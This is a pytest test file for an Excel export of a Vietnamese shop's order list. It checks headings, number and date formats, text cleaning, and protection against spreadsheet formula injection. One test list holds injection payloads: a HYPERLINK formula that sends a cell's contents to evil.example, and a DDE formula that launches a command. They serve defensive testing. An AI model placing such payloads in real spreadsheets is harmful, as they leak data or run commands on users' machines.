"""The orders list as an Excel file (`application.orders_xlsx`) without a database: the
workbook is built from hand-made order views and read back with openpyxl, as Excel would open
it, to check what a person opening it notices: the headings in the shop's language, numbers
that add up, the time in Vietnam, phone numbers with their leading 0, and text from buyers kept
as text (never a formula) with what a file cannot hold dropped."""

from __future__ import annotations

import io
import os
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from application.orders_xlsx import (
    DATE_FORMAT,
    MAX_CELL_TEXT,
    MONEY_FORMAT,
    OrdersBook,
    clean_text,
    filename,
)
from application.wording.xlsx import LINE_COLUMNS, ORDER_COLUMNS, WORDS
from orders.views import OrderRow, PaymentView
from tests.order_views import customer, line, order_row, shipper, staff

VI_ORDER_HEADINGS = [
    "Mã đơn",
    "Trạng thái",
    "Ngày tạo",
    "Live (video id)",
    "Tên khách",
    "SĐT",
    "Số nhà, đường",
    "Phường/Xã",
    "Quận/Huyện",
    "Tỉnh/Thành phố",
    "Sản phẩm",
    "Tiền hàng",
    "Giảm giá",
    "Phí ship",
    "Tổng cộng",
    "Thanh toán",
    "Đã nhận",
    "Còn phải thu",
    "COD",
    "Đơn vị giao / shipper",
    "Mã vận đơn",
    "Trạng thái hãng",
    "Nhân viên",
    "Khách xác nhận",
    "Ghi chú",
]
VI_LINE_HEADINGS = [
    "Mã đơn",
    "Mã live",
    "SKU",
    "Tên sản phẩm",
    "Phân loại",
    "Số lượng",
    "Đơn giá",
    "Thành tiền",
    "Chờ hàng",
    "Cần kiểm tra",
]


@dataclass
class Sheet:
    """A sheet as read back: its name, heading row and data rows (openpyxl cells)."""

    title: str
    headings: list[Any]
    rows: list[list[Any]]
    sheet: Any

    def column(self, heading: str) -> list[Any]:
        """The cells under `heading`, one per data row."""
        index = self.headings.index(heading)
        return [row[index] for row in self.rows]

    def values(self, heading: str) -> list[Any]:
        return [cell.value for cell in self.column(heading)]

    def row_of(self, code: str) -> dict[str, Any]:
        """The cells of the row whose first column is `code`, by heading."""
        found = [row for row in self.rows if row[0].value == code]
        assert len(found) == 1, (code, [row[0].value for row in self.rows])
        return dict(zip(self.headings, found[0], strict=True))


def read_book(data: bytes) -> list[Sheet]:
    """Every sheet of an XLSX file as openpyxl opens it (styles included)."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheets = []
    for sheet in book.worksheets:
        rows = [list(row) for row in sheet.iter_rows(max_col=sheet.max_column)]
        headings = [cell.value for cell in rows[0]] if rows else []
        sheets.append(Sheet(sheet.title, headings, rows[1:], sheet))
    return sheets


def build(orders: list[OrderRow], language: str = "vi", pages: int = 1) -> bytes:
    book = OrdersBook(language)
    size = max(1, len(orders) // pages)
    for start in range(0, len(orders), size):
        book.add(orders[start : start + size])
    return book.finish()


def full_order(**overrides: Any) -> OrderRow:
    """A shipped order with every column filled."""
    fields: dict[str, Any] = {
        "code": "DH000042",
        "status": "wait_for_cod",
        "video_id": "1234567890123456",
        "customer": customer(name="Nguyễn Thị Lan", phone="0912345678"),
        "lines": (
            line("A1", quantity=2, unit_price=150_000, variant="M"),
            line(
                "B3",
                id=2,
                sku="QUAN-002",
                name="Quần jean",
                quantity=1,
                unit_price=320_000,
                variant="",
                waitlisted=True,
                needs_review=True,
            ),
        ),
        "subtotal": 300_000,
        "discount": 20_000,
        "shipping_fee": 30_000,
        "total": 310_000,
        "cod_amount": 210_000,
        "payment": PaymentView(method="deposit", deposit=100_000, paid=100_000, due=210_000),
        "shipper": shipper("ghn", tracking_code="0GHN123", carrier_status="delivered"),
        "staff": staff("Mai"),
        "buyer_confirmation": "confirmed",
        "note": "Gọi trước khi giao",
        "created_at": datetime(2026, 12, 1, 17, 30, tzinfo=UTC),  # 00:30 on the 2nd in Hanoi
    }
    return order_row(**(fields | overrides))


def test_the_orders_sheet_reads_as_the_shop_writes_an_order_in_vietnamese():
    orders_sheet, lines_sheet = read_book(build([full_order()]))
    assert orders_sheet.title == "Đơn hàng" and lines_sheet.title == "Dòng hàng"
    assert orders_sheet.headings == VI_ORDER_HEADINGS
    assert lines_sheet.headings == VI_LINE_HEADINGS
    row = orders_sheet.row_of("DH000042")
    assert {name: cell.value for name, cell in row.items()} == {
        "Mã đơn": "DH000042",
        "Trạng thái": "Chờ thu hộ (COD)",
        "Ngày tạo": datetime(2026, 12, 2, 0, 30),
        "Live (video id)": "1234567890123456",
        "Tên khách": "Nguyễn Thị Lan",
        "SĐT": "0912345678",
        "Số nhà, đường": "12 Lê Lợi",
        "Phường/Xã": "Phường Bến Nghé",
        "Quận/Huyện": "Quận 1",
        "Tỉnh/Thành phố": "TP Hồ Chí Minh",
        "Sản phẩm": "A1 Áo thun trắng (M) x2; B3 Quần jean x1 (chờ hàng)",
        "Tiền hàng": 300_000,
        "Giảm giá": 20_000,
        "Phí ship": 30_000,
        "Tổng cộng": 310_000,
        "Thanh toán": "Đặt cọc",
        "Đã nhận": 100_000,
        "Còn phải thu": 210_000,
        "COD": 210_000,
        "Đơn vị giao / shipper": "GHN",
        "Mã vận đơn": "0GHN123",
        "Trạng thái hãng": "delivered",
        "Nhân viên": "Mai",
        "Khách xác nhận": "✅ Khách đã xác nhận qua Messenger",
        "Ghi chú": "Gọi trước khi giao",
    }


def test_money_is_numbers_the_time_is_a_date_and_codes_keep_their_zeros():
    (orders_sheet, lines_sheet) = read_book(build([full_order()]))
    row = orders_sheet.row_of("DH000042")
    for heading in ("Tiền hàng", "Giảm giá", "Phí ship", "Tổng cộng", "Đã nhận", "Còn phải thu"):
        cell = row[heading]
        assert cell.data_type == "n" and isinstance(cell.value, int), heading
        assert cell.number_format == MONEY_FORMAT, heading
    created = row["Ngày tạo"]
    assert created.is_date and created.number_format == DATE_FORMAT
    assert created.value == datetime(2026, 12, 2, 0, 30)  # Vietnam's wall clock, UTC+7
    for heading in ("SĐT", "Mã vận đơn", "Live (video id)", "Mã đơn"):
        cell = row[heading]
        assert cell.data_type == "s" and cell.number_format == "@", heading
    assert row["SĐT"].value == "0912345678"
    assert row["Mã vận đơn"].value == "0GHN123"
    for cell in lines_sheet.column("Đơn giá") + lines_sheet.column("Thành tiền"):
        assert cell.data_type == "n" and cell.number_format == MONEY_FORMAT


def test_the_lines_sheet_has_a_row_per_line_with_its_order():
    second = full_order(code="DH000043", lines=(line("C7", sku=None, name="C7"),))
    _, lines_sheet = read_book(build([full_order(), second]))
    assert [[cell.value for cell in row] for row in lines_sheet.rows] == [
        ["DH000042", "A1", "SKU-A1", "Áo thun trắng", "M", 2, 150_000, 300_000, "Không", "Không"],
        ["DH000042", "B3", "QUAN-002", "Quần jean", None, 1, 320_000, 320_000, "Có", "Có"],
        ["DH000043", "C7", None, "C7", "M", 2, 150_000, 300_000, "Không", "Không"],
    ]


def test_negative_due_and_an_order_without_code_shipper_or_staff():
    bare = order_row(
        id=7,
        code=None,
        shipper=None,
        staff=None,
        video_id=None,
        lines=(),
        payment=PaymentView(method="transfer", paid=350_000, due=-50_000),
    )
    orders_sheet, lines_sheet = read_book(build([bare]))
    row = orders_sheet.row_of("#7")
    assert row["Còn phải thu"].value == -50_000
    assert row["Thanh toán"].value == "Chuyển khoản"
    for heading in ("Đơn vị giao / shipper", "Mã vận đơn", "Nhân viên", "Live (video id)"):
        assert row[heading].value is None, heading
    assert lines_sheet.rows == []


def test_an_individual_shipper_is_named_with_their_phone():
    order = full_order(shipper=shipper("individual", name="Anh Tuấn", phone="0987654321"))
    row = read_book(build([order]))[0].row_of("DH000042")
    assert row["Đơn vị giao / shipper"].value == "Shipper riêng · Anh Tuấn · 0987654321"


def test_headings_are_bold_and_frozen_with_an_autofilter_and_widths():
    orders = [full_order(code=f"DH{n:06d}") for n in range(1, 6)]
    orders_sheet, lines_sheet = read_book(build(orders, pages=2))
    sheet = orders_sheet.sheet
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:Y6"  # 25 columns, heading + 5 orders
    assert lines_sheet.sheet.auto_filter.ref == "A1:J11"
    assert sheet.column_dimensions["E"].width == pytest.approx(24, abs=1)  # the buyer's name
    assert sheet.column_dimensions["Y"].width == pytest.approx(40, abs=1)  # the note
    assert [row[0].value for row in orders_sheet.rows] == [o.code for o in orders]


def test_english_headings_and_labels():
    orders_sheet, lines_sheet = read_book(build([full_order()], "en"))
    assert (orders_sheet.title, lines_sheet.title) == ("Orders", "Lines")
    assert orders_sheet.headings[:3] == ["Order code", "Status", "Created"]
    row = orders_sheet.row_of("DH000042")
    assert row["Status"].value == "Wait for COD"
    assert row["Payment"].value == "Deposit"
    assert row["Items"].value == "A1 Áo thun trắng (M) x2; B3 Quần jean x1 (waitlisted)"
    assert [cell.value for cell in lines_sheet.rows[1][-2:]] == ["Yes", "Yes"]


def test_both_languages_have_the_same_words():
    assert WORDS["vi"].keys() == WORDS["en"].keys()
    for name in ORDER_COLUMNS:
        assert f"order.{name}" in WORDS["vi"]
    for name in LINE_COLUMNS:
        assert f"line.{name}" in WORDS["vi"]
    assert not set(WORDS["vi"].values()) & {"Status", "Total", "Note", "Phone"}


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=1+1",
    "+84912345678",
    "-2+3",
    "@SUM(1,2)",
    "\t=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_buyer_name_or_note_like_a_formula_stays_text(text: str):
    order = full_order(customer=customer(name=text, phone="+84912345678"), note=text)
    orders_sheet, _ = read_book(build([order]))
    row = orders_sheet.row_of("DH000042")
    for heading in ("Tên khách", "Ghi chú", "SĐT"):
        cell = row[heading]
        assert cell.data_type == "s", (heading, cell.data_type)
        assert cell.quotePrefix, heading  # Excel keeps it text even when the cell is edited
    assert row["Tên khách"].value == text and row["Ghi chú"].value == text
    assert row["SĐT"].value == "+84912345678"
    # And nothing in the file is a formula.
    raw = openpyxl.load_workbook(io.BytesIO(build([order])))
    for sheet in raw.worksheets:
        for cells in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in cells)


def test_ordinary_text_carries_no_quote_prefix():
    row = read_book(build([full_order()]))[0].row_of("DH000042")
    assert not row["Tên khách"].quotePrefix and not row["SĐT"].quotePrefix


def test_control_characters_are_dropped_and_line_breaks_kept():
    name = "Lan\x00\x07\x1b[31m\x7f\x85\ufffe\uffff\ud800 Nguyễn"
    note = "dòng 1\r\ndòng 2\rdòng 3\n\tthụt lề"
    order = full_order(customer=customer(name=name), note=note)
    row = read_book(build([order]))[0].row_of("DH000042")
    assert row["Tên khách"].value == "Lan[31m Nguyễn"
    assert row["Ghi chú"].value == "dòng 1\ndòng 2\ndòng 3\n\tthụt lề"


def test_text_longer_than_a_cell_holds_is_cut_to_excels_limit():
    note = "ắ" * (MAX_CELL_TEXT + 10)
    emoji = "😀" * MAX_CELL_TEXT  # two UTF-16 units each
    assert len(clean_text(note)) == MAX_CELL_TEXT
    assert len(clean_text(emoji)) == MAX_CELL_TEXT // 2
    row = read_book(build([full_order(note=note)]))[0].row_of("DH000042")
    assert row["Ghi chú"].value == "ắ" * MAX_CELL_TEXT


def test_an_empty_list_is_a_workbook_with_its_headings():
    orders_sheet, lines_sheet = read_book(build([]))
    assert orders_sheet.headings == VI_ORDER_HEADINGS and orders_sheet.rows == []
    assert lines_sheet.headings == VI_LINE_HEADINGS and lines_sheet.rows == []


def test_the_file_is_named_for_when_it_was_made_in_vietnam():
    assert filename(datetime(2026, 12, 1, 17, 30, tzinfo=UTC)) == "don-hang-20261202-0030.xlsx"


def _temp_files() -> set[str]:
    import tempfile

    folder = tempfile.gettempdir()
    return {name for name in os.listdir(folder) if os.path.isfile(os.path.join(folder, name))}


def test_a_workbook_given_up_leaves_no_temporary_file():
    before = _temp_files()
    book = OrdersBook("vi")
    book.add([full_order()])
    assert _temp_files() - before  # rows wait on disk
    book.discard()
    assert not (_temp_files() - before)


# Any text a buyer may type: every category, surrogates and unassigned code points included,
# with the characters a file cannot hold and line breaks drawn often.
HARD = [
    "\x00",
    "\x01",
    "\x1b",
    "\x7f",
    "\x85",
    "\r",
    "\r\n",
    "\n",
    "\t",
    "\ufffe",
    "\uffff",
    "\ud83d",
]
ANY_TEXT = st.lists(
    st.one_of(st.characters(exclude_categories=()), st.sampled_from(HARD)), max_size=40
).map("".join)
FORMULA_LIKE = st.builds(
    lambda start, rest: start + rest, st.sampled_from(["=", "+", "-", "@", "\t", ""]), ANY_TEXT
)
CONTROLS = [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]
DROPPED = frozenset([*CONTROLS, *range(0xD800, 0xE000), 0xFFFE, 0xFFFF])


def _expected(text: str) -> str:
    """What a cell keeps: line breaks made plain, what a file cannot hold dropped."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return "".join(char for char in text if ord(char) not in DROPPED)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(names=st.lists(FORMULA_LIKE, min_size=1, max_size=4), note=FORMULA_LIKE)
def test_any_buyer_text_builds_a_workbook_that_reads_back_intact(names: list[str], note: str):
    orders = [
        full_order(code=f"DH{n:06d}", customer=customer(name=name), note=note)
        for n, name in enumerate(names, start=1)
    ]
    orders_sheet, _ = read_book(build(orders))
    for order, name in zip(orders, names, strict=True):
        row = orders_sheet.row_of(order.code or "")
        assert (row["Tên khách"].value or "") == _expected(name)
        assert (row["Ghi chú"].value or "") == _expected(note)
        for heading in ("Tên khách", "Ghi chú"):
            assert row[heading].data_type in ("s", "n")  # "n" only for an empty cell
            if row[heading].value is None:
                assert _expected(name if heading == "Tên khách" else note) == ""
